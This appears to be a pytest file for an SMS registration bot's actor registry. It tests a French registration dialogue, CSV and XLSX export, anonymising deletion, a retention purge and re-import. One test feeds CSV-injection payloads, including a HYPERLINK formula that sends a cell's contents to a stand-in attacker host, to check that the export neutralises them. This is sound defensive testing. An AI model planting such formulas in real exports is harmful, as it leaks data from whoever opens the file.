"""A full registration over the real webhook, then `essbot actors export` (csv and xlsx).

Runs on SQLite and, with DATABASE_URL set to PostgreSQL, there (CI does both).
"""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ET

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from bot.cli import EXPORT_COLUMNS, main
from bot.db import session_scope
from bot.models import Actor, Contact, Message
from tests.conftest import MESSAGES_URL, inbound_params

PHONE = "+22376543210"

#: An organisation, answered the way people type on a basic phone.
ORGANISATION = [
    ("Bonjour, je veux m'inscrire", "Langue / Kan"),
    ("1", "Acceptez-vous?"),          # French → straight to the registration asked for
    ("oui", "Vous inscrivez:"),
    ("2", "Nom de votre organisation?"),
    ("gie benkadi", "personne à contacter"),
    ("Mme Fatoumata DIARRA", "Cette personne est:"),
    ("femme", "année de naissance"),
    ("née en 1979", "Dans quel quartier?"),
    ("j'habite a sogonafin", "Secteur"),
    ("5", "L'activité de l'organisation"),
    ("teinture de bazin", "Forme de l'organisation"),
    ("GIE", "Combien de membres?"),
    ("25 femmes", "déclarée"),
    ("awo", "facultative"),
    ("1 3", "Vos besoins?"),
    ("1, 2 et 4", "Vérifiez:"),
    ("OUI", "Votre code: ESS3-"),
]


def bodies(resp) -> list[str]:
    assert resp.status_code == 200
    return [m.text or "" for m in ET.fromstring(resp.data).findall("Message")]


def register(signed_post, steps, channel="sms") -> list[str]:
    replies = []
    for typed, expected in steps:
        [body] = bodies(signed_post(MESSAGES_URL, inbound_params(typed, phone=PHONE,
                                                                 channel=channel)))
        assert expected in body, (typed, body)
        replies.append(body)
    return replies


@pytest.fixture
def cli_env(app, monkeypatch):
    """Point the command at the test app's database."""
    monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
    return CliRunner()


EXPECTED = {
    "phone": PHONE, "language": "fr", "channel": "sms", "kind": "organisation", "name": "",
    "org_name": "GIE Benkadi", "contact_name": "Mme Fatoumata Diarra", "gender": "femme",
    "birth_year": "1979", "quartier": "Sogonafing", "sector": "textile",
    "trade": "teinture de bazin", "legal_form": "gie", "members_count": "25",
    "formalised": "oui", "protection": "amo;mutuelle",
    "needs": "formation;financement;acces_marche", "completeness": "100",
    "consent_version": "2026-11-1", "quartier_text": "", "birth_band": "1970-1979",
    "deleted_at": "",
}


def check_row(row: dict, code: str) -> None:
    assert set(EXPORT_COLUMNS) <= set(row)
    for column, value in EXPECTED.items():
        assert str(row[column]) == value, (column, row[column])
    assert row["registration_code"] == code
    for column in ("consent_at", "created_at", "updated_at", "registered_at"):
        assert str(row[column]).startswith("20") and "+00:00" in str(row[column]), column


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registration_over_the_webhook_then_export(app, signed_post, cli_env, tmp_path, fmt):
    replies = register(signed_post, ORGANISATION)
    with session_scope(app) as s:
        actor = s.execute(sa.select(Actor)).scalar_one()
        code = actor.registration_code
    assert code == f"ESS3-{actor.id:06d}" and code in replies[-1]

    out = tmp_path / f"actors.{fmt}"
    result = cli_env.invoke(main, ["actors", "export", "--format", fmt, "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert "1 acteurs écrits" in result.output
    if fmt == "csv":
        with open(out, encoding="utf-8-sig", newline="") as fh:
            [row] = list(csv.DictReader(fh, delimiter=";"))
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out, read_only=True)["actors"]
        header, *values = [list(r) for r in sheet.iter_rows(values_only=True)]
        [row] = [dict(zip(header, (("" if v is None else v) for v in r))) for r in values]
        assert tuple(header) == EXPORT_COLUMNS
    check_row(row, code)


def test_deletion_keeps_only_anonymous_counts_and_redacts_messages(app, signed_post, cli_env,
                                                                   tmp_path):
    register(signed_post, ORGANISATION)
    [ask] = bodies(signed_post(MESSAGES_URL, inbound_params("SUPPRIMER", phone=PHONE)))
    assert "Effacer vos données" in ask
    [done] = bodies(signed_post(MESSAGES_URL, inbound_params("1", phone=PHONE)))
    assert "effacées" in done
    with session_scope(app) as s:
        actor = s.execute(sa.select(Actor)).scalar_one()
        contact = s.execute(sa.select(Contact)).scalar_one()
        messages = s.execute(sa.select(Message).order_by(Message.id)).scalars().all()
    assert actor.deleted_at is not None and actor.contact_id is None
    for personal in ("phone", "name", "org_name", "contact_name", "birth_year", "trade",
                     "quartier_text", "registration_code", "protection", "consent_at"):
        assert getattr(actor, personal) is None, personal
    assert (actor.kind, actor.gender, actor.birth_band, actor.quartier, actor.sector,
            actor.legal_form) == ("organisation", "femme", "1970-1979", "Sogonafing", "textile",
                                  "gie")
    assert contact.phone != PHONE and PHONE not in contact.phone
    # Every message before the deletion is blanked; only the confirmation remains.
    assert [m.body for m in messages[:-1]] == [""] * (len(messages) - 1)
    assert "effacées" in messages[-1].body

    out = tmp_path / "a.csv"
    cli_env.invoke(main, ["actors", "export", "--output", str(out)])
    assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 1  # header only
    cli_env.invoke(main, ["actors", "export", "--output", str(out), "--include-deleted"])
    assert "Sogonafing" in out.read_text(encoding="utf-8-sig")
    # Anonymised rows: times only to the month (re-identification risk).
    import csv

    [row] = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    month = actor.deleted_at.strftime("%Y-%m")
    assert row["deleted_at"] == month and row["created_at"] == month
    assert row["updated_at"] == month

    # The same phone writing again starts afresh.
    [again] = bodies(signed_post(MESSAGES_URL, inbound_params("Bonjour", phone=PHONE)))
    assert "Langue / Kan" in again


def test_large_export_shows_progress(app, cli_env, tmp_path, monkeypatch):
    monkeypatch.setattr("bot.cli.PROGRESS_FROM", 3)
    with session_scope(app) as s:
        for i in range(5):
            s.add(Actor(phone=f"+2237000000{i}", kind="individu", name=f"Awa {i}", needs=[]))
    out = tmp_path / "a.xlsx"
    result = cli_env.invoke(main, ["actors", "export", "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert "5 acteurs écrits" in result.output


def test_purge_forgets_registrations_past_the_retention_period(app, signed_post, cli_env):
    from datetime import timedelta

    from bot.models import utcnow

    register(signed_post, ORGANISATION)
    assert "0 acteurs effacés" in cli_env.invoke(main, ["actors", "purge"]).output
    with session_scope(app) as s:
        s.execute(sa.update(Actor).values(updated_at=utcnow() - timedelta(days=1826)))
    assert "1 acteurs seraient effacés" in cli_env.invoke(main, ["actors", "purge",
                                                                "--dry-run"]).output
    assert "1 acteurs effacés" in cli_env.invoke(main, ["actors", "purge"]).output
    with session_scope(app) as s:
        actor = s.execute(sa.select(Actor)).scalar_one()
        bodies_left = s.execute(sa.select(Message.body)).scalars().all()
    assert actor.deleted_at is not None and actor.name is None and actor.contact_name is None
    assert set(bodies_left) == {""}


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"Clic")',
                                   "+33 Diarra", "-2+3 Traoré", "@SUM(1+1)", "\t=1+1"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(typed):
    """Newcomer's test: a trade typed as a formula came out as a live formula in the Excel
    export (OWASP CSV Injection)."""
    from bot.registry.export import cell

    out = cell(typed)
    assert out.startswith("'") and out[1:] == typed
    assert cell("+22370000001") == "+22370000001"  # a phone is not a formula
    assert cell("Awa Traoré") == "Awa Traoré"


def test_xlsx_export_has_no_formula_cells(app, tmp_path):
    import openpyxl
    import sqlalchemy as sa

    from bot.db import transaction
    from bot.models import Actor, utcnow
    from bot.registry.export import export_actors

    with transaction(app) as conn:
        conn.execute(sa.insert(Actor.__table__).values(
            phone="+22370000077", name="=1+1", trade='=HYPERLINK("http://x","y")', needs=[],
            consent_at=utcnow(), registered_at=utcnow(), created_at=utcnow(),
            updated_at=utcnow()))
    out = tmp_path / "r.xlsx"
    assert export_actors(app, "xlsx", str(out)) == 1
    sheet = openpyxl.load_workbook(out).active
    types = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    assert "f" not in types
    values = [c.value for c in next(sheet.iter_rows(min_row=2))]
    assert "'=1+1" in values


# ------------------------------------------------------------------------------------------
# The staff file: French headers and labels, local dates (newcomer's test: codes, English
# column names and "+00:00" were hard to read in Excel)
# ------------------------------------------------------------------------------------------

LABELLED = {
    "Téléphone": PHONE, "Langue": "Français", "Canal d'inscription": "SMS",
    "Type": "Organisation", "Nom et prénom": "", "Nom de l'organisation": "GIE Benkadi",
    "Personne à contacter": "Mme Fatoumata Diarra", "Genre": "Femme",
    "Année de naissance": "1979", "Quartier": "Sogonafing",
    "Secteur d'activité": "Textile et teinture", "Métier ou activité": "teinture de bazin",
    "Forme de l'organisation": "GIE", "Nombre de membres": "25",
    "Organisation déclarée": "Oui", "Protection sociale": "AMO, Mutuelle de santé",
    "Besoins": "Formation, Financement, Accès au marché", "Fiche remplie à (%)": "100",
    "Décennie de naissance": "1970-1979", "Supprimée le": "",
}


def read_export(path, fmt: str) -> tuple[list, list[dict]]:
    """(header, rows as dicts) of an exported file; empty cells as ""."""
    if fmt == "csv":
        with open(path, encoding="utf-8-sig", newline="") as fh:
            reader = csv.DictReader(fh, delimiter=";")
            return list(reader.fieldnames or []), list(reader)
    from openpyxl import load_workbook

    sheet = load_workbook(path, read_only=True).worksheets[0]
    header, *values = [list(r) for r in sheet.iter_rows(values_only=True)]
    return header, [dict(zip(header, ("" if v is None else v for v in r))) for r in values]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_labels_gives_the_staff_file(app, signed_post, cli_env, tmp_path, fmt):
    from datetime import datetime

    from bot.registry.export import HEADERS

    register(signed_post, ORGANISATION)
    out = tmp_path / f"actors.{fmt}"
    result = cli_env.invoke(main, ["actors", "export", "--labels", "--format", fmt,
                                   "--output", str(out)])
    assert result.exit_code == 0, result.output
    header, [row] = read_export(out, fmt)
    assert header == [HEADERS[c] for c in EXPORT_COLUMNS]  # same columns, same order
    assert header[:3] == ["Code d'inscription", "Téléphone", "Langue"]
    for column, value in LABELLED.items():
        assert str(row[column]) == value, (column, row[column])
    assert row["Code d'inscription"].startswith("ESS3-")
    for column in ("Consentement le", "Créée le", "Modifiée le", "Inscription confirmée le"):
        value = row[column]
        if fmt == "xlsx":
            assert isinstance(value, datetime), column  # a real date cell
        else:
            assert re.fullmatch(r"\d\d/\d\d/20\d\d \d\d:\d\d", value), (column, value)


def test_staff_times_are_local_and_anonymised_rows_keep_the_month():
    from datetime import datetime, timezone
    from zoneinfo import ZoneInfo

    from bot.registry.export import row_cells

    late = datetime(2026, 11, 30, 23, 30, tzinfo=timezone.utc)
    row = [late if c in ("consent_at", "created_at") else None for c in EXPORT_COLUMNS]
    cells = dict(zip(EXPORT_COLUMNS, row_cells(row, labels=True, zone=ZoneInfo("Africa/Bamako"))))
    assert cells["consent_at"] == "30/11/2026 23:30"  # Bamako is UTC all year
    lagos = dict(zip(EXPORT_COLUMNS, row_cells(row, labels=True, zone=ZoneInfo("Africa/Lagos"))))
    assert lagos["consent_at"] == "01/12/2026 00:30"  # ESSBOT_TIMEZONE is followed
    codes = dict(zip(EXPORT_COLUMNS, row_cells(row)))
    assert codes["consent_at"] == "2026-11-30T23:30:00+00:00"  # scripts: unchanged
    row[EXPORT_COLUMNS.index("deleted_at")] = late
    deleted = dict(zip(EXPORT_COLUMNS, row_cells(row, labels=True,
                                                 zone=ZoneInfo("Africa/Lagos"))))
    assert deleted["created_at"] == deleted["deleted_at"] == "12/2026"


def test_staff_labels_are_neutralised_too():
    from datetime import timezone

    from bot.registry.export import row_cells

    row = [None] * len(EXPORT_COLUMNS)
    row[EXPORT_COLUMNS.index("trade")] = "=1+1"
    row[EXPORT_COLUMNS.index("sector")] = "-inconnu"  # an unknown code is shown as stored
    cells = dict(zip(EXPORT_COLUMNS, row_cells(row, labels=True, zone=timezone.utc)))
    assert cells["trade"] == "'=1+1" and cells["sector"] == "'-inconnu"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("labels", [True, False])
def test_an_exported_file_imports_back(app, signed_post, tmp_path, fmt, labels):
    """Round trip: the staff page's file (labels) and the scripts' (codes) are read by the
    import with every value recognised."""
    from bot.registry.export import export_actors
    from bot.registry.importer import analyse_file

    register(signed_post, ORGANISATION)
    with session_scope(app) as s:
        s.add(Actor(phone="+22366000042", kind="individu", name="Awa Traoré", gender="femme",
                    birth_year=1990, quartier="Badialan I", sector="artisanat_service",
                    trade="coiffure", needs=["formation"], language="bm", channel="whatsapp"))
    out = tmp_path / f"registre.{fmt}"
    assert export_actors(app, fmt, str(out), labels=labels) == 2
    with session_scope(app) as s:
        s.execute(sa.delete(Actor))  # a registry emptied, then filled from the export
    report = analyse_file(app, out.read_bytes(), out.name)
    assert report.errors == [] and report.duplicates == []
    assert len(report.create) == 2
    made = {r["values"]["phone"]: r["values"] for r in report.create}
    org, person = made[PHONE], made["+22366000042"]
    assert {k: org[k] for k in ("kind", "org_name", "contact_name", "gender", "birth_year",
                                "quartier", "sector", "trade", "legal_form", "members_count",
                                "formalised", "needs", "language")} == {
        "kind": "organisation", "org_name": "GIE Benkadi", "contact_name": "Mme Fatoumata Diarra",
        "gender": "femme", "birth_year": 1979, "quartier": "Sogonafing", "sector": "textile",
        "trade": "teinture de bazin", "legal_form": "gie", "members_count": 25,
        "formalised": True, "needs": ["formation", "financement", "acces_marche"],
        "language": "fr"}
    assert (person["kind"], person["name"], person["sector"], person["language"]) == (
        "individu", "Awa Traoré", "artisanat_service", "bm")
